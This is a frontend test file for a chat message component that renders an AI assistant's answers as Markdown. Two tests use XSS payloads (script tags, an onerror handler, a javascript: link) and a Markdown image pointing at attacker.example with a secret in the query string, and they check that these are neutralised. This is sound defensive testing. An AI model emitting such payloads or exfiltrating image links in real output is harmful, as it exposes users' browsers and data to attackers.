import { cleanup, render } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import type { ChatMessage } from "../chat/reducer";
import { MessageView } from "./MessageView";

function assistant(content: string, status: ChatMessage["status"] = "completed"): ChatMessage {
  return {
    key: "a1",
    id: "a1",
    clientId: null,
    role: "assistant",
    content,
    status,
    createdAt: "2026-01-01T00:00:00Z",
    error: null,
    sendError: null,
    seq: null,
    lastOffset: -1,
  };
}

afterEach(cleanup);

describe("MessageView", () => {
  it("renders Markdown with code blocks", () => {
    const { container } = render(
      <MessageView message={assistant("# Title\n\nSome **bold** text.\n\n```py\nprint(1)\n```")} />,
    );
    expect(container.querySelector("h1")?.textContent).toBe("Title");
    expect(container.querySelector("strong")?.textContent).toBe("bold");
    expect(container.querySelector("pre code")?.textContent).toBe("print(1)");
    expect(container.querySelector(".code-language")?.textContent).toBe("py");
    expect(container.querySelector(".code-block .copy-button")?.textContent).toBe("Copy py code");
    expect(container.querySelector(".copy-answer")?.textContent).toBe("Copy answer");
  });

  it("shows the usage line of a finished answer, and no copy button while it streams", () => {
    const done = { ...assistant("Hi"), usage: { model: "simulated", tokens: 12, ttft_ms: 40, duration_ms: 1500 } };
    const { container, rerender } = render(<MessageView message={done} />);
    expect(container.querySelector("[data-testid='usage-line']")?.textContent).toBe(
      "simulated · 12 tokens · first token 40 ms · 1.5 s",
    );
    rerender(<MessageView message={assistant("Hi", "streaming")} />);
    expect(container.querySelector(".copy-answer")).toBeNull();
  });

  it("never puts the model's raw HTML into the DOM", () => {
    const { container } = render(
      <MessageView
        message={assistant('<img src=x onerror="alert(1)"> <script>alert(2)</script> [x](javascript:alert(3))')}
      />,
    );
    expect(container.querySelector("img")).toBeNull();
    expect(container.querySelector("script")).toBeNull();
    expect(container.querySelector("a")?.getAttribute("href") ?? "").not.toContain("javascript");
  });

  it("finding 6: shows a Markdown image as a link and never fetches it", () => {
    const url = "https://attacker.example/p.png?d=SECRET";
    const { container, getAllByTestId } = render(
      <MessageView message={assistant(`Look: ![x](${url}) and ![](/local.png)`)} />,
    );
    expect(container.querySelector("img")).toBeNull();
    const [remote, local] = getAllByTestId("image-link");
    expect(remote?.getAttribute("href")).toBe(url);
    expect(remote?.textContent).toBe(`[image: x] ${url}`);
    expect(local?.textContent).toBe("[image] /local.png");
  });

  it.each(["cancelled", "failed", "interrupted"] as const)("shows a %s badge", (status) => {
    const { getByTestId } = render(<MessageView message={assistant("part", status)} />);
    expect(getByTestId("status-badge").textContent).toBe(status);
  });

  it("shows no badge for a completed answer and a cursor while streaming", () => {
    const done = render(<MessageView message={assistant("all")} />);
    expect(done.queryByTestId("status-badge")).toBeNull();
    done.unmount();
    const { container } = render(<MessageView message={assistant("so far", "streaming")} />);
    expect(container.querySelector(".cursor")).not.toBeNull();
    expect(container.querySelector("article")?.getAttribute("aria-busy")).toBe("true");
  });
});
